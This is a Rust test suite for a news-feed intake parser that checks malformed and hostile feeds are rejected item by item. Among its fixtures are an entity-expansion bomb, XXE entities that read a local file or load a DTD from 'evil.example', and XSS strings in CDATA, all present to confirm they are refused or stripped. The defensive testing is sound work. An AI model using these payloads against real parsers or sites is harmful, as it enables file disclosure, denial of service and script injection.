//! Feeds and wires that are broken, hostile, or have no story: one error each, and the rest goes on.

use std::fmt::Write;

use onrecord_intake::{IntakeError, Options, articles};
use onrecord_record::{Article, Language, StampEvidence};

fn read(bytes: &[u8]) -> Vec<Result<Article, IntakeError>> {
    articles(bytes, "a.xml", &Options::default()).collect()
}

fn told(bytes: &[u8]) -> Vec<String> {
    let told = |found: Result<Article, IntakeError>| match found {
        Ok(article) => article.text,
        Err(error) => error.to_string(),
    };
    read(bytes).into_iter().map(told).collect()
}

fn rss(items: &str) -> String {
    format!("<rss version=\"2.0\"><channel><title>Courier</title>{items}</channel></rss>")
}

const STORY: &str = "<item><title>Bridge shut</title><description>The bridge is shut, she said.</description></item>";

#[test]
fn entities_are_never_expanded() {
    let mut laughs = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [<!ENTITY a0 \"ha\">".to_owned();
    for at in 0..20 {
        let (next, this) = (at + 1, format!("&a{at};").repeat(10));
        write!(laughs, "<!ENTITY a{next} \"{this}\">").unwrap();
    }
    laughs += "]>";
    laughs += &rss("<item><title>x</title><description>&a20;</description></item>");
    let secret = std::env::temp_dir().join(format!("onrecord-{}.txt", std::process::id()));
    std::fs::write(&secret, "the secret of the file").unwrap();
    let outside = format!(
        "<!DOCTYPE rss [<!ENTITY x SYSTEM \"file://{}\">]>{}",
        secret.display(),
        rss("<item><description>&x; he said.</description></item>")
    );
    let parameter = format!(
        "<!DOCTYPE rss [<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\"> %x;]>{}",
        rss(STORY)
    );
    for text in [laughs, outside, parameter] {
        assert_eq!(
            told(text.as_bytes()),
            ["a.xml declares entities of its own; such XML is not read, and nothing was loaded"]
        );
    }
    std::fs::remove_file(secret).unwrap();
}

#[test]
fn a_document_type_alone_loads_nothing() {
    let text = format!(
        "<!DOCTYPE rss SYSTEM \"http://evil.example/rss.dtd\">{}",
        rss(STORY)
    );
    assert_eq!(
        told(text.as_bytes()),
        ["Bridge shut\n\nThe bridge is shut, she said."]
    );
}

#[test]
fn a_bad_item_is_one_error() {
    let text = rss(&format!(
        "{STORY}<item><title>Nothing more</title></item><item><description><![CDATA[<img src=a>]]></description></item>{STORY}"
    ));
    let story = "Bridge shut\n\nThe bridge is shut, she said.";
    assert_eq!(
        told(text.as_bytes()),
        [
            story,
            "a.xml, article 2 was not read: the item has neither content nor description",
            "no article text found in a.xml, article 3",
            story,
        ]
    );
    assert_eq!(told(rss("").as_bytes()), ["a.xml is empty"]);
}

#[test]
fn other_vocabularies_give_no_title() {
    let text = "<rss xmlns:itunes=\"http://i.example\" xmlns:media=\"http://m.example\"><channel>\
        <itunes:title>x</itunes:title><title>Courier</title><item><media:title>A picture</media:title>\
        <itunes:author>Nobody</itunes:author><media:description>A wall.</media:description>\
        <title>Bridge shut</title><description>The bridge is shut, she said.</description></item></channel></rss>";
    let found = read(text.as_bytes());
    let article = found[0].as_ref().unwrap();
    assert_eq!(article.masthead.outlet.as_deref(), Some("Courier"));
    assert_eq!(article.masthead.authors, [""; 0]);
    assert_eq!(article.text, "Bridge shut\n\nThe bridge is shut, she said.");
    let older = "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns=\"http://purl.org/rss/1.0/\" \
        xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><channel><title>Courier</title></channel><item><title>Bridge shut</title>\
        <link>https://courier.example/1</link><dc:date>2031-03-12</dc:date><dc:creator>Ada Holt</dc:creator>\
        <description>The bridge is shut, she said.</description></item></rdf:RDF>";
    let found = read(older.as_bytes());
    assert_eq!(found.len(), 1);
    let masthead = &found[0].as_ref().unwrap().masthead;
    assert_eq!(masthead.outlet.as_deref(), Some("Courier"));
    assert_eq!(masthead.authors, ["Ada Holt"]);
    assert_eq!(
        masthead
            .published
            .map(|stamp| stamp.date.to_string())
            .as_deref(),
        Some("2031-03-12")
    );
}

#[test]
fn a_file_cut_short_tells_where() {
    let whole = rss(STORY);
    let cut = whole.get(..whole.len() - 30).unwrap();
    let found = told(cut.as_bytes());
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(
        found[0].starts_with("a.xml is not valid XML: "),
        "{found:?}"
    );
}

#[test]
fn markup_in_a_title_is_no_markup() {
    let text = rss(
        "<item><title><![CDATA[<script>alert(1)</script><img src=x onerror=alert(1)>Bridge shut]]></title>\
         <description><![CDATA[<p>It is shut, <script>alert(2)</script>she said.</p><iframe src=a></iframe>]]></description></item>",
    );
    let found = read(text.as_bytes());
    let article = found[0].as_ref().unwrap();
    assert_eq!(article.masthead.title.as_deref(), Some("Bridge shut"));
    assert_eq!(article.text, "Bridge shut\n\nIt is shut, she said.");
}

#[test]
fn a_title_of_ten_megabytes_is_no_title() {
    let long = "bridge ".repeat(1_500_000);
    let text = rss(&format!(
        "<item><title>{long}</title><description>The bridge is shut, she said.</description></item>"
    ));
    let found = read(text.as_bytes());
    let article = found[0].as_ref().unwrap();
    assert_eq!(article.masthead.title, None);
    assert_eq!(article.text, "The bridge is shut, she said.");
}

#[test]
fn a_charset_declared_wrongly_loses_no_letters() {
    let item = "<item><description>The café is shut, she said.</description></item>";
    for declared in ["ISO-8859-1", "UTF-16", "none-such"] {
        let text = format!(
            "<?xml version=\"1.0\" encoding=\"{declared}\"?>{}",
            rss(item)
        );
        assert_eq!(
            told(text.as_bytes()),
            ["The café is shut, she said."],
            "{declared}"
        );
    }
    let text = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>{}", rss(item));
    let latin: Vec<u8> = text
        .chars()
        .map(|c| u8::try_from(u32::from(c)).unwrap())
        .collect();
    assert_eq!(told(&latin), ["The café is shut, she said."]);
}

#[test]
fn a_page_in_an_item_has_its_bound() {
    let deep = rss(&format!(
        "<item><description><![CDATA[{}]]></description></item>{STORY}",
        "<div>".repeat(5000)
    ));
    let found = told(deep.as_bytes());
    assert!(
        found[0].contains("a.xml, article 1 nests more than"),
        "{found:?}"
    );
    assert_eq!(found.len(), 2, "the next one is read");
}

#[test]
fn what_a_publisher_took_back_is_not_read() {
    let ninjs = |status: &str| {
        format!(
            "{{\"uri\": \"urn:x:1\", \"pubStatus\": \"{status}\", \"headlines\": [{{\"value\": \"Bridge shut\"}}], \
             \"bodies\": [{{\"contentType\": \"text/plain\", \"value\": \"The bridge is shut.\"}}]}}"
        )
    };
    let refused = |status| format!("a.xml was not read: its publisher says that it is {status}");
    assert_eq!(told(ninjs("canceled").as_bytes()), [refused("canceled")]);
    assert_eq!(told(ninjs("withheld").as_bytes()), [refused("withheld")]);
    assert_eq!(told(ninjs("usable").as_bytes()), ["The bridge is shut."]);
    let newsml = "<newsItem guid=\"g\"><itemMeta><pubStatus qcode=\"stat:canceled\"/></itemMeta>\
        <contentSet><inlineData contenttype=\"text/plain\">It is shut.</inlineData></contentSet></newsItem>";
    assert_eq!(
        told(newsml.as_bytes()),
        ["a.xml, article 1 was not read: its publisher says that it is canceled"]
    );
}

#[test]
fn items_without_words_say_why() {
    for (text, why) in [
        (
            "<newsItem><contentSet><remoteContent href=\"https://a.example/x.mp4\"/></contentSet></newsItem>",
            "a.xml, article 1 was not read: its content is elsewhere, and nothing is fetched",
        ),
        (
            "<newsItem><itemMeta/></newsItem>",
            "a.xml, article 1 was not read: it has no content set",
        ),
        (
            "<packageItem guid=\"p\"><groupSet/></packageItem>",
            "a.xml, article 1 was not read: it is an item of NewsML-G2 that has no text of its own",
        ),
        (
            "{\"uri\": \"urn:x:1\", \"type\": \"picture\", \"versioncreated\": \"2031-03-12T10:00:00Z\"}",
            "a.xml was not read: the news item has no body of text or HTML",
        ),
        (
            "{\"@context\": \"https://schema.org\", \"@graph\": [{\"@type\": \"NewsArticle\", \"headline\": \"Bridge shut\"}]}",
            "a.xml, article 1 was not read: its schema.org article has no `articleBody`",
        ),
        (
            "{\"@context\": \"https://schema.org\", \"@graph\": [{\"@type\": \"Person\", \"name\": \"Ada Holt\"}]}",
            "a.xml is JSON but no article: it has no `text`, `html` or `body`",
        ),
    ] {
        assert_eq!(told(text.as_bytes()), [why]);
    }
}

#[test]
fn older_news_items_are_read_too() {
    let text = "{\"uri\": \"https://wire.example/9\", \"versioncreated\": \"2031-03-12T10:00:00Z\", \
        \"headline\": \"Bridge shut\", \"byline\": \"By Ada Holt\", \"copyrightholder\": \"Northern Wire\", \
        \"language\": \"de\", \"body_text\": \"VELIN, March 12 (NW) — It is, said Holt.\"}";
    let found = read(text.as_bytes());
    let article = found[0].as_ref().unwrap();
    let masthead = &article.masthead;
    assert_eq!(masthead.title.as_deref(), Some("Bridge shut"));
    assert_eq!(masthead.authors, ["Ada Holt"]);
    assert_eq!(masthead.outlet.as_deref(), Some("Northern Wire"));
    assert_eq!(masthead.url.as_deref(), Some("https://wire.example/9"));
    assert_eq!(
        article.text, "VELIN, March 12 (NW) — It is, said Holt.",
        "to the character"
    );
    assert_eq!(
        article.language,
        Language::Other(*b"deu"),
        "too little text to tell"
    );
    assert_eq!(
        article.origin.doc.as_deref(),
        Some("https://wire.example/9")
    );
}

#[test]
fn schema_org_is_read_in_lines_and_alone() {
    let one = "{\"@context\": \"https://schema.org\", \"@type\": \"NewsArticle\", \"headline\": \"Bridge shut\", \
        \"identifier\": \"c-17\", \"datePublished\": \"2031-03-12\", \"articleBody\": \"It is, said Holt.\"}";
    let found = read(format!("{one}\n{one}\n").as_bytes());
    assert_eq!(found.len(), 2);
    let article = found[1].as_ref().unwrap();
    assert_eq!(article.origin.line, Some(2));
    assert_eq!(article.origin.doc.as_deref(), Some("c-17"));
    let published = article.masthead.published.map(|stamp| stamp.evidence);
    assert_eq!(published, Some(StampEvidence::JsonLd));
}

/// A row of GDELT's knowledge graph with `quotations`.
fn row(quotations: &str, translation: &str) -> String {
    let mut columns = vec![""; 27];
    columns[0] = "20310312101500-7";
    columns[1] = "20310312101500";
    columns[2] = "1";
    columns[3] = "evening.example";
    columns[4] = "https://evening.example/7";
    columns[22] = quotations;
    columns[25] = translation;
    columns.join("\t")
}

#[test]
fn rows_give_their_quotations_and_nothing_else() {
    let rows = [
        row("12|19|said|The bridge is shut.#90|9||Nobody was told.", ""),
        row("", ""),
        row("12|19|said|The bridge is shut.", "srclc:fra;eng:GT-FRA 1.0"),
        "20310312101500-8\t20310312101500\t1\tcut".to_owned(),
        row("x|y|said|no place#12|4||#", ""),
        row("12|5||Yes.", ""),
    ];
    let found = told(format!("{}\n", rows.join("\n")).as_bytes());
    assert_eq!(
        found,
        [
            "“The bridge is shut.”\n\n“Nobody was told.”",
            "a.xml, line 4 is no row of GDELT's knowledge graph 2.1: it should have 27 columns",
            "“Yes.”",
            "a.xml: 3 of 6 rows were passed over: they quote nothing, or were translated by machine, \
             and of an article's words such a file has no more than quotations",
        ]
    );
    let is_notice = |text: &str| {
        let found = read(text.as_bytes());
        let error = found.last().and_then(|one| one.as_ref().err());
        error.is_some_and(IntakeError::is_notice)
    };
    assert!(is_notice(&rows[..2].join("\n")), "some rows quote");
    assert!(!is_notice(&rows[1]), "no row does");
    let found = read(rows[0].as_bytes());
    let article = found[0].as_ref().unwrap();
    assert_eq!(
        article.masthead.url.as_deref(),
        Some("https://evening.example/7")
    );
    assert_eq!(article.origin.doc.as_deref(), Some("20310312101500-7"));
    let published = article.masthead.published.unwrap();
    assert_eq!(published.date.to_string(), "2031-03-12");
    assert_eq!(published.time.map(|time| time.hour()), Some(10));
}
